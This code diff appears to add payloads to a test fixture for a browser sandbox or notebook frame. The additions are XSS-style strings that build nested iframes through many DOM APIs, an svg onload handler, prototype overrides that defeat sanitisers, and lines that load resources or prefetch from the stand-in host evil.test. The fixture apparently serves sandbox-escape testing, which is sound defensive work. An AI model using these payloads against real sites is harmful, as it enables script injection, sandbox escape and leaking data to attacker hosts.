@@ -113,8 +113,36 @@ export const html: readonly string[] = [
   `<p id=app class=notebook>clobber</p>`,
 ]
 
+/** What runs in a frame within the frame, where what the outer one lacks would be there anew. Without a quote in it. */
+const INNER = '<svg onload=if(self.RTCPeerConnection)top.postMessage(/nested/.source,String.fromCharCode(42))>'
+const FRAME = JSON.stringify(`<iframe srcdoc="${INNER}"></iframe>`)
+const XML = `iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="${INNER.replace('<', '&lt;').replace('>', '&gt;')}"/>`
+
+/** Ways to such a frame. */
+export const nested: readonly string[] = [
+  `const i=document.createElement("iframe");i.srcdoc=${JSON.stringify(INNER)};document.body.append(i)`,
+  `const i=document.createElementNS("http://www.w3.org/1999/xhtml","h:iframe");i.srcdoc=${JSON.stringify(INNER)};document.body.append(i)`,
+  `document.body.insertAdjacentHTML("beforeend",${FRAME})`,
+  `document.body.innerHTML+=${FRAME}`,
+  `document.querySelector("p").outerHTML=${FRAME}`,
+  `document.querySelector("p").attachShadow({mode:"closed"}).innerHTML=${FRAME}`,
+  `const r=document.createRange();r.selectNode(document.body);document.body.append(r.createContextualFragment(${FRAME}))`,
+  `const t=document.createElement("template");t.innerHTML=${FRAME};document.body.append(t.content.cloneNode(true))`,
+  `document.body.append(new DOMParser().parseFromString(${FRAME},"text/html").querySelector("iframe"))`,
+  `document.body.append(new DOMParser().parseFromString(${JSON.stringify(`<!DOCTYPE x [<!ENTITY f '&#60;${XML}'>]><x>&f;</x>`)},"text/xml").documentElement.firstChild)`,
+  `document.body.append(new DOMParser().parseFromString(${JSON.stringify(`<p:${XML.replace('xmlns=', 'xmlns:p=')}`)},"text/xml").documentElement)`,
+  `document.querySelector("p").setHTMLUnsafe("<div><template shadowrootmode=open>"+${FRAME}+"</template></div>")`,
+  `document.body.append(Document.parseHTMLUnsafe(${FRAME}).querySelector("iframe"))`,
+  `document.write(${FRAME})`,
+  `document.write(${FRAME}.slice(0,4));document.write(${FRAME}.slice(4))`,
+  `class F extends HTMLIFrameElement{}customElements.define("x-f",F,{extends:"iframe"});const i=new F();i.srcdoc=${JSON.stringify(INNER)};document.body.append(i)`,
+  `RegExp.prototype.exec=()=>null;RegExp.prototype[Symbol.replace]=(t)=>t;String.prototype.replace=function(){return this};Object.defineProperty(RegExp.prototype,"flags",{get:()=>""});Object.defineProperty(Element.prototype,"localName",{get:()=>"p"});document.body.insertAdjacentHTML("beforeend",${FRAME});const i=document.createElement("iframe");i.srcdoc=${JSON.stringify(INNER)};document.body.append(i)`,
+  `let n=0;document.querySelector("p").innerHTML={toString:()=>n++?${FRAME}:""};document.querySelector("p").innerHTML={toString:()=>${FRAME}}`,
+]
+
 /** What a script tries that runs already, in its frame. */
 export const scripts: readonly string[] = [
+  ...nested,
   'parent.canary=1',
   'top.canary=1',
   'window.opener.canary=1',
@@ -149,6 +177,8 @@ export const scripts: readonly string[] = [
   'const i=document.createElement("iframe");i.src="https://evil.test/n";document.body.append(i)',
   'const l=document.createElement("link");l.rel="dns-prefetch";l.href="https://evil.test";document.head.append(l)',
   'new RTCPeerConnection({iceServers:[{urls:"stun:evil.test"}]}).createDataChannel("x")',
+  'document.body.insertAdjacentHTML("beforeend","<iframe src=https://evil.test/nest></iframe><object data=https://evil.test/obj></object><embed src=https://evil.test/emb><frameset><frame src=https://evil.test/fr></frameset>")',
+  'const s=document.createElement("script");s.type="speculationrules";s.textContent=JSON.stringify({prefetch:[{source:"list",urls:["https://evil.test/spec"]}],prerender:[{source:"list",urls:["https://evil.test/pre"]}]});document.head.append(s)',
   'alert(1);confirm(1);prompt(1);print()',
   'document.documentElement.requestFullscreen()',
   'document.domain="127.0.0.1"',
